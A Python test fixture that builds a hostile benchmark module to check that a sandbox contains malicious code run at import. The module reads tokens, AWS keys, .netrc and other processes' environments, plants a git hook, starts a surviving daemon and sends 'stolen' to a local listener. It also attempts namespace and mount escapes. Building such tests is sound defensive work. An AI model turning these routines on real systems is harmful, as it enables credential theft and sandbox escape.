"""A hostile operator_benchmark tree (written into a temp dir) for the sandbox tests.

``pt/hostile_test.py`` does, at import (when the tracer imports it), what a malicious pull request
could: it reads secrets from the environment, from every process's ``/proc/<pid>/environ`` and
from the user's homes, writes outside the repository, plants a git hook, starts a daemon meant to
outlive perfq, and calls the network; as root it also tries to undo the sandbox (issue 37):
``umount`` of ``/tmp``, ``mount -o remount,rw /``, writes to ``/etc`` and the host's ``/tmp``,
``mknod`` of a block device, ``ptrace``, ``setns``, ``unshare`` and ``SCHED_FIFO`` 50. It then
fails with a JSON line of what each attempt got, which the trace (or ``perfq run``) reports as
its error. The same attacks (``ATTACKS``) are prepended to a ``perfq run`` benchmark.
A harness whose ``benchmark_core.py`` sleeps at import hangs the tracer's warm-up.
"""

from __future__ import annotations

import contextlib
import json
import os
import pwd
import socket
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

HARNESS_CORE = "BENCHMARK_TESTER = []\n"
HARNESS_PYTORCH = """
class TorchBenchmarkBase:
    def test_name(self, **kwargs):
        return "hostile"
"""

ATTACKS = r'''
import ctypes, glob, json, os, socket, subprocess, sys

PLAN = json.loads({plan!r})
seen = {{}}
LIBC = ctypes.CDLL(None, use_errno=True)


def attempt(name, action):
    try:
        seen[name] = action()
    except BaseException as exc:  # noqa: BLE001
        seen[name] = "blocked: " + type(exc).__name__ + (" " + exc.strerror if getattr(exc, "strerror", None) else "")


def libc(call, *args):
    if getattr(LIBC, call)(*args) == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return "done"


def write(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as fh:
        fh.write("#!/bin/sh\necho pwned\n")
    os.chmod(path, 0o755)
    return "written"


def read(path):
    with open(path) as fh:
        return "read: " + fh.read()


def daemon():
    if os.fork() == 0:  # double fork and a new session: out of the tracer's process group
        os.setsid()
        if os.fork() == 0:
            null = os.open(os.devnull, os.O_RDWR)
            for fd in (0, 1, 2):
                os.dup2(null, fd)
            os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(1000)", PLAN["marker"]])
        os._exit(0)
    os.wait()
    return "started"


def connect():
    with socket.create_connection(("127.0.0.1", PLAN["port"]), timeout=3) as conn:
        conn.sendall(b"stolen")
    return "connected"


def environ_of_others():
    found = []
    for path in glob.glob("/proc/[0-9]*/environ"):
        try:
            with open(path, "rb") as fh:
                if PLAN["token_value"].encode() in fh.read():
                    found.append(path)
        except OSError:
            continue
    if found:
        return "read: " + ",".join(found)
    raise PermissionError(1, "no process's environment holds the token")


def host_tmp():
    write(PLAN["host_tmp"])
    if not os.path.exists(PLAN["tmp_canary"]):  # the write went to the sandbox's own empty /tmp
        raise PermissionError(1, "its own /tmp, not the host's")
    return "written"


def unshare():
    return libc("unshare", 0x10000000 | 0x00020000)  # CLONE_NEWUSER | CLONE_NEWNS


def setns():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    try:
        return libc("setns", fd, 0)
    finally:
        os.close(fd)


def ptrace():
    return libc("ptrace", 16, os.getppid(), None, None)  # PTRACE_ATTACH


def clone_namespace():
    pid = LIBC.syscall(56, 0x10000000 | 17, None, None, None, None)  # clone(CLONE_NEWUSER | SIGCHLD) on x86_64
    if pid == 0:
        os._exit(0)
    if pid == -1:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    os.waitpid(pid, 0)
    return "done"


attempt("token", lambda: os.environ.get("GITHUB_TOKEN", "absent"))
attempt("secret", lambda: os.environ.get("AWS_SECRET_ACCESS_KEY", "absent"))
attempt("home", lambda: os.environ.get("HOME", "absent"))
attempt("tmpdir", lambda: os.environ.get("TMPDIR", "absent"))
attempt("home_secret", lambda: read(PLAN["home_secret"]))
attempt("outside", lambda: write(PLAN["outside"]))
attempt("hook", lambda: write(PLAN["hook"]))
attempt("daemon", daemon)
attempt("network", connect)
if PLAN.get("root"):
    attempt("environ", environ_of_others)
    attempt("real_home", lambda: read(PLAN["real_home_secret"]))
    attempt("umount_tmp", lambda: libc("umount2", b"/tmp", 2))  # MNT_DETACH
    attempt("remount_rw", lambda: libc("mount", None, b"/", None, 32 | 4096, None))  # MS_REMOUNT | MS_BIND, no RDONLY
    attempt("etc", lambda: write(PLAN["etc"]))
    attempt("host_tmp", host_tmp)
    block = os.path.join(os.environ.get("TMPDIR", "/tmp"), "sda")
    attempt("mknod", lambda: os.mknod(block, 0o60600, os.makedev(8, 0)) or "done")  # S_IFBLK
    attempt("ptrace", ptrace)
    attempt("setns", setns)
    attempt("unshare", unshare)
    attempt("clone_namespace", clone_namespace)
    attempt("sched_fifo_50", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(50)) or "done")
'''
HOSTILE = ATTACKS + 'raise RuntimeError("HOSTILE " + json.dumps(seen))\n'
# what must fail inside the sandbox (``daemon`` starts, and dies with the sandbox's pid namespace)
ROOT_ATTEMPTS = ("environ", "real_home", "umount_tmp", "remount_rw", "etc", "host_tmp", "mknod", "ptrace", "setns",
                 "unshare", "clone_namespace", "sched_fifo_50")
BLOCKED_ATTEMPTS = ("home_secret", "outside", "hook", "network", *ROOT_ATTEMPTS)

SLEEPY_CORE = """
import time
try:
    time.sleep(1000)
except BaseException:  # deaf to the warm-up's alarm: only the silence limit stops it
    {deaf}
BENCHMARK_TESTER = []
"""


def make_tree(root: Path, plan: dict | None = None, sleepy: str = "") -> Path:
    """A benchmark tree under ``root``: the harness (sleeping at import when ``sleepy`` is ``"alarm"``
    or ``"deaf"``) and ``pt/hostile_test.py`` doing ``plan``'s attacks; returns the benchmark file."""
    bench = root / "benchmarks" / "operator_benchmark"
    (bench / "pt").mkdir(parents=True)
    (bench / "pt" / "__init__.py").write_text("")
    core = SLEEPY_CORE.format(deaf="time.sleep(1000)" if sleepy == "deaf" else "raise") if sleepy else HARNESS_CORE
    (bench / "benchmark_core.py").write_text(core)
    (bench / "benchmark_pytorch.py").write_text(HARNESS_PYTORCH)
    file = bench / "pt" / "hostile_test.py"
    file.write_text(hostile_source(plan) if plan else "raise SystemExit\n")
    return file


def hostile_source(plan: dict) -> str:
    """The module text that tries every attack of ``plan`` at import, then fails with what each got."""
    return HOSTILE.format(plan=json.dumps(plan))


def outcomes(errors: tuple[str, ...]) -> dict[str, str]:
    """What each attack got, from the trace's errors."""
    for error in errors:
        if "HOSTILE " in error:
            return json.loads(error.split("HOSTILE ", 1)[1])
    raise AssertionError(f"the hostile module did not report: {errors}")


TOKEN = "ghp_secret_token"


@dataclass
class Place:
    """Where the hostile code is let loose: its repository, the attack plan, what reached the
    listener, and the host files it must not create."""

    repo: Path
    plan: dict
    calls: list[bytes] = field(default_factory=list)

    def host_files(self) -> list[Path]:
        """The files the attacks write or plant, on the host (none may exist afterwards)."""
        keys = ("outside", "hook", "etc", "host_tmp")
        return [Path(self.plan[key]) for key in keys if key in self.plan]


def _listen(calls: list[bytes], stop: threading.Event) -> tuple[socket.socket, threading.Thread]:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)

    def accept() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except TimeoutError:
                continue
            with conn:
                calls.append(conn.recv(100))

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()
    return listener, thread


def marked(marker: str) -> list[int]:
    """Pids of processes whose command line holds ``marker``."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes()
            except OSError:
                continue
            if marker.encode() in cmdline:
                found.append(int(entry.name))
    return found


@contextlib.contextmanager
def hostile_place(tmp_path: Path, home: Path) -> Iterator[Place]:
    """A repository with ``.git/hooks``, a listener the code may call, a ``.netrc`` in ``home``, and
    as root the targets of the root attacks: a secret in the real home (the password database's),
    a canary in the host's ``/tmp``, a process whose environment holds :data:`TOKEN`. All removed
    afterwards, with any daemon that got away."""
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    tag = uuid.uuid4().hex
    (home / ".netrc").write_text("machine github.com password hunter2\n")
    real_home = Path(pwd.getpwuid(os.getuid()).pw_dir)
    calls: list[bytes] = []
    stop = threading.Event()
    listener, thread = _listen(calls, stop)
    plan = {
        "marker": f"perfq-hostile-{tag}", "port": listener.getsockname()[1], "home_secret": str(home / ".netrc"),
        "outside": str(Path(__file__).parent / f"pwned-{tag}"), "hook": str(repo / ".git" / "hooks" / "post-checkout"),
        "root": os.geteuid() == 0, "token_value": TOKEN, "real_home_secret": str(real_home / f".perfq-secret-{tag}"),
        "etc": f"/etc/perfq-pwned-{tag}", "host_tmp": f"/tmp/perfq-pwned-{tag}",
        "tmp_canary": f"/tmp/perfq-canary-{tag}",
    }
    planted = [Path(plan["real_home_secret"]), Path(plan["tmp_canary"])] if plan["root"] else []
    for path in planted:
        path.write_text("secret\n")
    holder = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)"],
                              env={**os.environ, "GITHUB_TOKEN": TOKEN})
    place = Place(repo, plan, calls)
    try:
        yield place
    finally:
        holder.kill()
        holder.wait()
        for path in [*planted, *place.host_files()]:
            path.unlink(missing_ok=True)
        stop.set()
        thread.join()
        listener.close()
        for pid in marked(plan["marker"]):  # a daemon that got away: do not leave it to the machine
            os.kill(pid, 9)
